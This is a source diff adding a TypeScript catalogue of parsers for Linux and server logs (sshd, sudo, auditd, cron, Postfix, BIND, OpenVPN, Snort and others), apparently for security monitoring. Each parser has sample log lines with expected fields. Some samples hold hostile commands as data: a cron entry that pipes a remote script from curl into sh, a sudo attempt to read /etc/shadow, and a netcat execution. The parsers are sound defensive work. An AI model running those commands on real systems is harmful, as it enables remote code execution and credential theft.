@@ -1,0 +1,167 @@
+// Linux/Unix hosts and server software that log through syslog or plain text files.
+import { syslogEntry, lineEntry, msgRegexp, m } from './generic.ts';
+import type { CatalogueEntry } from './types.ts';
+
+const R = String.raw;
+const when = (app: string) => [{ field: 'appname', op: 'equals' as const, value: app }];
+
+export const HOST_SOURCES: CatalogueEntry[] = [
+  syslogEntry(
+    'linux-sshd',
+    'OpenBSD',
+    'OpenSSH sshd',
+    [msgRegexp(R`^(?P<outcome>Accepted|Failed) (?P<method>password|publickey|keyboard-interactive/pam) for (?:invalid user )?(?P<user>\S+) from (?P<src>[\da-fA-F.:]+) port (?P<spt>\d+)`, when('sshd'))],
+    [m('outcome', 'EventOutcome', [{ op: 'lower' }]), m('method', 'DeviceCustomString1'), m('user', 'DestinationUserName'), m('src', 'SourceAddress'), m('spt', 'SourcePort'), m('message', 'Message')],
+    [
+      { raw: '<38>Nov 28 11:10:01 web01 sshd[23012]: Failed password for invalid user oracle from 218.92.0.107 port 41522 ssh2', expected: { DeviceHostName: 'web01', DeviceProcessName: 'sshd', DeviceProcessID: 23012, EventOutcome: 'failed', DestinationUserName: 'oracle', SourceAddress: '218.92.0.107', SourcePort: 41522 } },
+      { raw: '<86>Nov 28 11:10:05 web01 sshd[23040]: Accepted publickey for deploy from 10.0.0.15 port 50222 ssh2: RSA SHA256:Kf2n7wUv2C6m', expected: { EventOutcome: 'accepted', DeviceCustomString1: 'publickey', DestinationUserName: 'deploy' } },
+    ],
+  ),
+  syslogEntry(
+    'linux-sudo',
+    'Linux',
+    'sudo',
+    [msgRegexp(R`^\s*(?P<user>\S+) : (?:(?P<failure>[^;]+?) ; )?TTY=(?P<tty>\S+) ; PWD=(?P<pwd>\S+) ; USER=(?P<target>\S+) ; COMMAND=(?P<command>.+)$`, when('sudo'))],
+    [m('user', 'SourceUserName'), m('target', 'DestinationUserName'), m('command', 'DeviceCustomString1'), m('pwd', 'FilePath'), m('failure', 'Reason')],
+    [
+      { raw: '<85>Nov 28 11:11:00 db02 sudo:   alexey : TTY=pts/1 ; PWD=/home/alexey ; USER=root ; COMMAND=/usr/bin/systemctl restart postgresql', expected: { SourceUserName: 'alexey', DestinationUserName: 'root', DeviceCustomString1: '/usr/bin/systemctl restart postgresql', FilePath: '/home/alexey' } },
+      { raw: '<85>Nov 28 11:11:30 db02 sudo:   intern : user NOT in sudoers ; TTY=pts/2 ; PWD=/tmp ; USER=root ; COMMAND=/bin/cat /etc/shadow', expected: { SourceUserName: 'intern', Reason: 'user NOT in sudoers', DeviceCustomString1: '/bin/cat /etc/shadow' } },
+    ],
+  ),
+  lineEntry(
+    'linux-auditd',
+    'Linux',
+    'auditd',
+    { kind: 'kv' },
+    [m('type', 'DeviceEventClassID'), m('msg', 'ExternalID'), m('exe', 'SourceProcessName', [{ op: 'trim', chars: '"' }]), m('pid', 'SourceProcessID'), m('auid', 'SourceUserID'), m('uid', 'DestinationUserID'), m('comm', 'DeviceCustomString1'), m('key', 'DeviceCustomString2'), m('success', 'EventOutcome'), m('addr', 'SourceAddress'), m('acct', 'DestinationUserName'), m('res', 'EventOutcome')],
+    [
+      { raw: 'type=SYSCALL msg=audit(1732792300.412:8812): arch=c000003e syscall=59 success=yes exit=0 a0=55d5 a1=55d6 a2=55d7 a3=0 items=2 ppid=4120 pid=4188 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="nc" exe="/usr/bin/nc.openbsd" key="susp_exec"', expected: { DeviceVendor: 'Linux', DeviceEventClassID: 'SYSCALL', ExternalID: 'audit(1732792300.412:8812):', SourceProcessName: '/usr/bin/nc.openbsd', SourceProcessID: 4188, SourceUserID: '1000', DeviceCustomString1: 'nc', DeviceCustomString2: 'susp_exec', EventOutcome: 'yes' } },
+      { raw: "type=USER_LOGIN msg=audit(1732792310.001:8815): pid=5001 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=? addr=198.51.100.44 terminal=sshd res=failed'", expected: { DeviceEventClassID: 'USER_LOGIN', SourceProcessID: 5001 } },
+    ],
+    'file / syslog key-value',
+    [{ name: 'nested USER_* msg', when: [{ field: 'type', op: 'prefix', value: 'USER_' }], field: 'msg', parser: { kind: 'kv' } }],
+  ),
+  syslogEntry(
+    'linux-useradd',
+    'Linux',
+    'shadow-utils',
+    [msgRegexp(R`^new user: name=(?P<user>[^,]+), UID=(?P<uid>\d+), GID=(?P<gid>\d+), home=(?P<home>[^,]+), shell=(?P<shell>[^,]+)`, when('useradd')), msgRegexp(R`^delete user '(?P<user>[^']+)'`, when('userdel'))],
+    [m('user', 'DestinationUserName'), m('uid', 'DestinationUserID'), m('home', 'FilePath'), m('shell', 'DeviceCustomString1')],
+    [{ raw: '<86>Nov 28 11:12:00 app03 useradd[7765]: new user: name=backup2, UID=1002, GID=1002, home=/home/backup2, shell=/bin/bash, from=/dev/pts/0', expected: { DeviceProcessName: 'useradd', DestinationUserName: 'backup2', DestinationUserID: '1002', DeviceCustomString1: '/bin/bash' } }],
+  ),
+  syslogEntry(
+    'linux-cron',
+    'Linux',
+    'cron',
+    [msgRegexp(R`^\((?P<user>[^)]+)\) CMD \((?P<command>.*)\)$`)],
+    [m('user', 'SourceUserName'), m('command', 'DeviceCustomString1')],
+    [{ raw: '<78>Nov 28 11:13:01 app03 CRON[9912]: (www-data) CMD (curl -s http://198.51.100.9/x.sh | sh)', expected: { DeviceProcessName: 'CRON', SourceUserName: 'www-data', DeviceCustomString1: 'curl -s http://198.51.100.9/x.sh | sh' } }],
+  ),
+  syslogEntry(
+    'linux-pam-su',
+    'Linux',
+    'su',
+    [msgRegexp(R`^(?:pam_unix\(su(?:-l)?:(?P<phase>\w+)\): )?(?:session opened for user (?P<target>\S+?)(?:\(uid=\d+\))? by (?P<user>\S+?)(?:\(uid=\d+\))?$|authentication failure; .*ruser=(?P<ruser>\S*) .*user=(?P<tuser>\S+))`)],
+    [m(['user', 'ruser'], 'SourceUserName'), m(['target', 'tuser'], 'DestinationUserName'), m('phase', 'DeviceCustomString1')],
+    [{ raw: '<86>Nov 28 11:14:00 app03 su[10021]: pam_unix(su:session): session opened for user root(uid=0) by alexey(uid=1000)', expected: { SourceUserName: 'alexey', DestinationUserName: 'root', DeviceCustomString1: 'session' } }],
+  ),
+  syslogEntry(
+    'postfix',
+    'Postfix',
+    'Postfix MTA',
+    [
+      msgRegexp(R`^(?P<queueid>[0-9A-F]+): to=<(?P<to>[^>]*)>, relay=(?P<relay>\S+), .*status=(?P<status>\w+)`),
+      msgRegexp(R`^NOQUEUE: reject: RCPT from (?P<rhost>[^\[]+)\[(?P<src>[\d.:a-f]+)\]: (?P<code>\d{3}) .*?; from=<(?P<from>[^>]*)> to=<(?P<to>[^>]*)>`),
+    ],
+    [m('queueid', 'ExternalID'), m('to', 'DestinationUserName'), m('from', 'SourceUserName'), m('relay', 'DestinationHostName'), m('status', 'EventOutcome'), m('src', 'SourceAddress'), m('rhost', 'SourceHostName'), m('code', 'DeviceCustomString1')],
+    [
+      { raw: '<22>Nov 28 11:15:00 mx1 postfix/smtp[3321]: 4F1A2C0345: to=<partner@example.org>, relay=mx.example.org[93.184.216.34]:25, delay=1.2, delays=0.1/0/0.5/0.6, dsn=2.0.0, status=sent (250 2.0.0 Ok: queued as 9AB12)', expected: { DeviceProcessName: 'postfix/smtp', ExternalID: '4F1A2C0345', DestinationUserName: 'partner@example.org', EventOutcome: 'sent' } },
+      { raw: '<22>Nov 28 11:15:10 mx1 postfix/smtpd[3330]: NOQUEUE: reject: RCPT from unknown[45.95.147.20]: 554 5.7.1 Service unavailable; Client host [45.95.147.20] blocked using zen.spamhaus.org; from=<spam@bulk.example> to=<ceo@corp.ru> proto=ESMTP helo=<bulk>', expected: { SourceAddress: '45.95.147.20', DeviceCustomString1: '554', SourceUserName: 'spam@bulk.example', DestinationUserName: 'ceo@corp.ru' } },
+    ],
+  ),
+  syslogEntry(
+    'dovecot',
+    'Dovecot',
+    'Dovecot IMAP/POP3',
+    [msgRegexp(R`^(?P<proto>imap|pop3)-login: (?P<result>Login|Disconnected|Aborted login)[^:]*: user=<(?P<user>[^>]*)>, method=(?P<method>\w+), rip=(?P<src>[\d.:a-f]+), lip=(?P<dst>[\d.:a-f]+)`)],
+    [m('proto', 'ApplicationProtocol'), m('result', 'EventOutcome'), m('user', 'DestinationUserName'), m('src', 'SourceAddress'), m('dst', 'DestinationAddress')],
+    [{ raw: '<22>Nov 28 11:16:00 mail dovecot: imap-login: Login: user=<n.ivanova@corp.ru>, method=PLAIN, rip=10.0.7.31, lip=10.0.0.25, mpid=4411, TLS, session=<abc>', expected: { ApplicationProtocol: 'imap', EventOutcome: 'Login', DestinationUserName: 'n.ivanova@corp.ru', SourceAddress: '10.0.7.31' } }],
+  ),
+  syslogEntry(
+    'bind-named',
+    'ISC',
+    'BIND',
+    [msgRegexp(R`client (?:@0x[0-9a-f]+ )?(?P<src>[\d.:a-f]+)#(?P<spt>\d+) \((?P<qname>[^)]+)\): query: \S+ IN (?P<qtype>\w+) (?P<flags>\S+) \((?P<server>[\d.:a-f]+)\)`)],
+    [m('src', 'SourceAddress'), m('spt', 'SourcePort'), m('qname', 'DestinationHostName'), m('qtype', 'DeviceCustomString1'), m('server', 'DestinationAddress')],
+    [{ raw: '<30>Nov 28 11:17:00 ns1 named[812]: client @0x7f1c2c0a1b20 10.0.3.44#53122 (xn--80ak6aa92e.com): query: xn--80ak6aa92e.com IN A +E(0)K (10.0.0.53)', expected: { DeviceProcessName: 'named', SourceAddress: '10.0.3.44', DestinationHostName: 'xn--80ak6aa92e.com', DeviceCustomString1: 'A', DestinationAddress: '10.0.0.53' } }],
+  ),
+  syslogEntry(
+    'dnsmasq',
+    'dnsmasq',
+    'dnsmasq',
+    [msgRegexp(R`^query\[(?P<qtype>\w+)\] (?P<qname>\S+) from (?P<src>[\d.:a-f]+)`)],
+    [m('qtype', 'DeviceCustomString1'), m('qname', 'DestinationHostName'), m('src', 'SourceAddress')],
+    [{ raw: '<30>Nov 28 11:18:00 router dnsmasq[1123]: query[AAAA] telemetry.example.com from 192.168.1.77', expected: { DeviceCustomString1: 'AAAA', DestinationHostName: 'telemetry.example.com', SourceAddress: '192.168.1.77' } }],
+  ),
+  syslogEntry(
+    'isc-dhcpd',
+    'ISC',
+    'DHCP server',
+    [msgRegexp(R`^(?P<op>DHCPACK|DHCPOFFER|DHCPREQUEST|DHCPDISCOVER|DHCPRELEASE) (?:on|for|of) (?P<ip>[\d.]+)? ?(?:to|from) (?P<mac>[0-9a-f:]{17})(?: \((?P<host>[^)]+)\))? via (?P<iface>\S+)`)],
+    [m('op', 'DeviceEventClassID'), m('ip', 'SourceAddress'), m('mac', 'SourceMacAddress'), m('host', 'SourceHostName'), m('iface', 'DeviceInboundInterface')],
+    [{ raw: '<30>Nov 28 11:19:00 dhcp01 dhcpd[911]: DHCPACK on 10.0.9.120 to 3c:22:fb:01:02:03 (MacBook-Pro-Olga) via eth0', expected: { DeviceEventClassID: 'DHCPACK', SourceAddress: '10.0.9.120', SourceMacAddress: '3c:22:fb:01:02:03', SourceHostName: 'MacBook-Pro-Olga' } }],
+  ),
+  syslogEntry(
+    'freeradius',
+    'FreeRADIUS',
+    'FreeRADIUS',
+    [msgRegexp(R`Login (?P<result>OK|incorrect)(?: \([^)]*\))?: \[(?P<user>[^\]/]+)(?:/[^\]]*)?\] \(from client (?P<client>\S+) port (?P<port>\d+)(?: cli (?P<cli>[^)]+))?\)`)],
+    [m('result', 'EventOutcome'), m('user', 'SourceUserName'), m('client', 'DeviceHostName'), m('cli', 'SourceMacAddress')],
+    [{ raw: '<38>Nov 28 11:20:00 radius1 radiusd[1554]: (221) Login incorrect (mschap: MS-CHAP2-Response is incorrect): [d.sokolov/<via Auth-Type = eap>] (from client wlc-01 port 13 cli 48-45-20-aa-bb-cc)', expected: { EventOutcome: 'incorrect', SourceUserName: 'd.sokolov', DeviceHostName: 'wlc-01', SourceMacAddress: '48:45:20:aa:bb:cc' } }],
+  ),
+  syslogEntry(
+    'openvpn',
+    'OpenVPN',
+    'OpenVPN server',
+    [msgRegexp(R`^(?P<user>[^/\s]+)/(?P<src>[\d.]+):(?P<spt>\d+) (?P<event>MULTI_sva: pool returned IPv4=(?P<vpnip>[\d.]+)|.*)`), msgRegexp(R`^(?P<src>[\d.]+):(?P<spt>\d+) TLS Auth Error: (?P<reason>.+)$`)],
+    [m('user', 'SourceUserName'), m('src', 'SourceAddress'), m('spt', 'SourcePort'), m('vpnip', 'SourceTranslatedAddress'), m('reason', 'Reason')],
+    [
+      { raw: '<29>Nov 28 11:21:00 vpn01 openvpn[2231]: ivan.p/203.0.113.88:51820 MULTI_sva: pool returned IPv4=10.8.0.14, IPv6=(Not enabled)', expected: { SourceUserName: 'ivan.p', SourceAddress: '203.0.113.88', SourceTranslatedAddress: '10.8.0.14' } },
+      { raw: '<27>Nov 28 11:21:05 vpn01 openvpn[2231]: 45.9.148.3:40111 TLS Auth Error: Auth Username/Password verification failed for peer', expected: { SourceAddress: '45.9.148.3', Reason: 'Auth Username/Password verification failed for peer' } },
+    ],
+  ),
+  syslogEntry(
+    'postgresql',
+    'PostgreSQL',
+    'PostgreSQL',
+    [msgRegexp(R`^\[\d+(?:-\d+)?\] (?:(?P<user>[^@\s]+)@(?P<db>\S+) )?(?P<level>LOG|FATAL|ERROR|WARNING):\s+(?P<text>.*)$`)],
+    [m('user', 'DestinationUserName'), m('db', 'DeviceCustomString1'), m('level', 'Severity'), m('text', 'Message')],
+    [{ raw: '<131>Nov 28 11:22:00 db02 postgres[4412]: [3-1] app@billing FATAL:  password authentication failed for user "app"', expected: { DestinationUserName: 'app', DeviceCustomString1: 'billing', Severity: 'FATAL', Message: 'password authentication failed for user "app"' } }],
+  ),
+  syslogEntry(
+    'clamav',
+    'Cisco Talos',
+    'ClamAV',
+    [msgRegexp(R`^(?P<path>/\S+): (?P<sig>\S+) FOUND`)],
+    [m('path', 'FilePath'), m('sig', 'Name')],
+    [{ raw: '<28>Nov 28 11:23:00 files01 clamd[990]: /srv/share/in/report.pdf.exe: Win.Trojan.Agent-1234 FOUND', expected: { FilePath: '/srv/share/in/report.pdf.exe', Name: 'Win.Trojan.Agent-1234' } }],
+  ),
+  lineEntry(
+    'fail2ban',
+    'Fail2ban',
+    'fail2ban',
+    { kind: 'regexp', options: { pattern: R`^(?P<time>\d{4}-\d\d-\d\d \d\d:\d\d:\d\d),\d+ fail2ban\.actions\s+\[\d+\]: (?P<level>\w+)\s+\[(?P<jail>[^\]]+)\] (?P<action>Ban|Unban) (?P<src>[\d.:a-f]+)` } },
+    [m('time', 'DeviceReceiptTime'), m('level', 'Severity'), m('jail', 'DeviceCustomString1'), m('action', 'DeviceAction'), m('src', 'SourceAddress')],
+    [{ raw: '2024-11-28 11:24:00,123 fail2ban.actions        [812]: NOTICE  [sshd] Ban 218.92.0.107', expected: { DeviceReceiptTime: '2024-11-28T11:24:00.000Z', DeviceAction: 'Ban', SourceAddress: '218.92.0.107', DeviceCustomString1: 'sshd' } }],
+    'file',
+  ),
+  lineEntry(
+    'snort-fast',
+    'Cisco',
+    'Snort',
+    { kind: 'regexp', options: { pattern: R`^(?P<time>\d\d/\d\d-\d\d:\d\d:\d\d\.\d+)\s+\[\*\*\] \[(?P<sid>\d+:\d+:\d+)\] (?P<msg>.+?) \[\*\*\] (?:\[Classification: (?P<class>[^\]]+)\] )?\[Priority: (?P<prio>\d)\] \{(?P<proto>\w+)\} (?P<src>[\d.]+):?(?P<spt>\d+)? -> (?P<dst>[\d.]+):?(?P<dpt>\d+)?` } },
+    [m('sid', 'DeviceEventClassID'), m('msg', 'Name'), m('class', 'DeviceEventCategory'), m('prio', 'Priority'), m('proto', 'TransportProtocol'), m('src', 'SourceAddress'), m('spt', 'SourcePort'), m('dst', 'DestinationAddress'), m('dpt', 'DestinationPort')],
+    [{ raw: '11/28-11:25:00.123456  [**] [1:2024897:3] ET EXPLOIT Possible Apache log4j RCE Attempt [**] [Classification: Attempted Administrator Privilege Gain] [Priority: 1] {TCP} 198.51.100.71:40112 -> 10.10.1.20:80', expected: { DeviceEventClassID: '1:2024897:3', Name: 'ET EXPLOIT Possible Apache log4j RCE Attempt', Priority: 1, SourceAddress: '198.51.100.71', DestinationPort: 80 } }],
+    'file (alert_fast)',
+  ),
+];
